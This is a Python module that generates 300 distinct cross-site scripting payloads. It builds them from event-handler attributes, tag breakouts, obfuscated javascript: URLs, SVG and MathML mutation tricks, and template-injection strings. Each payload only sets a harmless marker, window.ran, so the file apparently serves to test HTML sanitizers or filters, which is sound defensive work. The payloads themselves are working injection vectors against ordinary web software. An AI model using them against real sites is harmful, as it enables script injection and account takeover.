"""Three hundred ways to make a browser run what a stranger wrote; each would set `window.ran` if it ran."""

from __future__ import annotations

from itertools import islice
from typing import Final

RUN: Final = "window.ran=1"
_EVENTS: Final = (
    "onerror onload onclick onmouseover onfocus onblur onanimationstart ontoggle onpointerrawupdate onbeforeinput "
    "onwheel onscroll onbegin onend oncanplay onplay onresize onhashchange onpageshow ontransitionend"
).split()
_TAGS: Final = (
    '<img src=x {e}="{r}">',
    "<img src=x {e}={r}>",
    '<svg {e}="{r}"></svg>',
    "<svg/{e}={r}>",
    '<body {e}="{r}">',
    '<details open {e}="{r}"><summary>x</summary></details>',
    '<input autofocus {e}="{r}">',
    '<video src=x {e}="{r}"></video>',
    '<a href="#" {e}="{r}" autofocus>x</a>',
    '"><img src=x {e}="{r}">',
    "'><img src=x {e}='{r}'>",
    "<IMG SRC=x {e}='{r}' x='",
)
_OTHERS: Final = (
    "<script>{r}</script>",
    "<ScRiPt>{r}</sCrIpT>",
    "<script/x>{r}</script>",
    "<script\n>{r}</script\n>",
    "</title><script>{r}</script>",
    "</textarea><script>{r}</script>",
    "</style><script>{r}</script>",
    "</script><script>{r}</script>",
    "--><script>{r}</script><!--",
    "]]><script>{r}</script>",
    "<!--><script>{r}</script>-->",
    "<scr<script>ipt>{r}</scr</script>ipt>",
    "<script src=data:text/javascript,{r}></script>",
    "<script type=module>{r}</script>",
    "<svg><script>{r}</script></svg>",
    "<svg><script href=data:text/javascript,{r} /></svg>",
    "<svg><animate onbegin={r} attributeName=x dur=1s>",
    "<svg><foreignObject><script>{r}</script></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={r}></style></mglyph></table></mtext></math>",
    '<math><mi//xlink:href="data:x,<script>{r}</script>">',
    '<noscript><p title="</noscript><img src=x onerror={r}>"></noscript>',
    "<style><img src=x onerror={r}></style>",
    '<style>@import "javascript:{r}";</style>',
    "<xmp><img src=x onerror={r}></xmp>",
    "<template><script>{r}</script></template>",
    "<iframe srcdoc='<script>parent.{r}</script>'></iframe>",
    "<iframe src=\"javascript:parent.{r}\"></iframe>",
    "<object data=\"javascript:{r}\"></object>",
    "<embed src=\"javascript:{r}\">",
    "<form><button formaction=\"javascript:{r}\">x</button></form>",
    "<form action=\"javascript:{r}\"><input type=submit></form>",
    "<a href=\"javascript:{r}\">x</a>",
    "<a href=\" javascript:{r}\">x</a>",
    "<a href=\"java\tscript:{r}\">x</a>",
    "<a href=\"java\nscript:{r}\">x</a>",
    "<a href=\"JaVaScRiPt:{r}\">x</a>",
    "<a href=\"&#106;avascript:{r}\">x</a>",
    "<a href=\"&#x6A;avascript:{r}\">x</a>",
    "<a href=\"javascript&colon;{r}\">x</a>",
    "<a href=\"\x01javascript:{r}\">x</a>",
    "<a href=\"vbscript:{r}\">x</a>",
    "<a href=\"data:text/html,<script>opener.{r}</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD48L3NjcmlwdD4=\">x</a>",
    "<a xlink:href=\"javascript:{r}\">x</a>",
    "<area href=\"javascript:{r}\">",
    "<base href=\"javascript:{r}//\">",
    "<link rel=stylesheet href=\"javascript:{r}\">",
    "<link rel=import href=\"data:text/html,<script>{r}</script>\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:{r}\">",
    "<img src=\"javascript:{r}\">",
    "<img srcset=\"javascript:{r} 2x\">",
    "<img src=\"x:x\" onerror=\"&#119;indow.ran=1\">",
    "<img src=x:alert onerror=eval(src)>",
    "<img src='x' style='background:url(javascript:{r})'>",
    "<img src=data:image/svg+xml,<svg/onload={r}>>",
    "<p style=\"animation-name:x\" onanimationstart=\"{r}\">x</p>",
    "<div style=\"width:expression({r})\">x</div>",
    "<table background=\"javascript:{r}\"><td background=\"javascript:{r}\">x</table>",
    "<marquee onstart=\"{r}\">x</marquee>",
    "<isindex type=image src=x onerror={r}>",
    "<keygen autofocus onfocus={r}>",
    "<select onfocus={r} autofocus><option></select>",
    "<textarea onfocus={r} autofocus></textarea>",
    "{{{{constructor.constructor('{r}')()}}}}",
    "${{{r}}}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{x}}}}{{% endfor %}}",
    "';{r};//",
    "\";{r};//",
    "`;{r};//",
    "\\\";{r};//",
    "\u2028{r}\u2029",
    "<\x00script>{r}</script>",
    "\ufeff<script>{r}</script>",
    "＜script＞{r}＜/script＞",
    "%3Cscript%3E{r}%3C/script%3E",
    "&lt;script&gt;{r}&lt;/script&gt;",
    "<div hx-get=\"/x\" hx-trigger=load hx-on::load=\"{r}\">x</div>",
    "<div data-hx-on:load=\"{r}\">x</div>",
    "<p lang='\"><script>{r}</script>'>x</p>",
    "<img alt='\"><script>{r}</script>' src=x>",
    "<img alt=\"x\" width=\"1&quot; onerror=&quot;{r}\" src=x>",
    "<blockquote cite=\"javascript:{r}\">x</blockquote>",
    "<time datetime='\" onmouseover=\"{r}'>x</time>",
    "<a href='http://x.example/\"onmouseover=\"{r}'>x</a>",
    "<details ontoggle={r} open>",
    "<dialog open onfocus={r} autofocus>x</dialog>",
    "<audio autoplay onloadstart={r} src=x></audio>",
    "<custom-tag onfocus={r} tabindex=1 autofocus>x</custom-tag>",
)  # fmt: skip


def payloads(number: int = 300) -> list[str]:
    """That many payloads, all different."""
    others = (one.format(r=RUN) for one in _OTHERS)
    events = (tag.format(e=event, r=RUN) for event in _EVENTS for tag in _TAGS)
    found = list(islice(dict.fromkeys([*others, *events]), number))
    assert len(found) == number
    return found
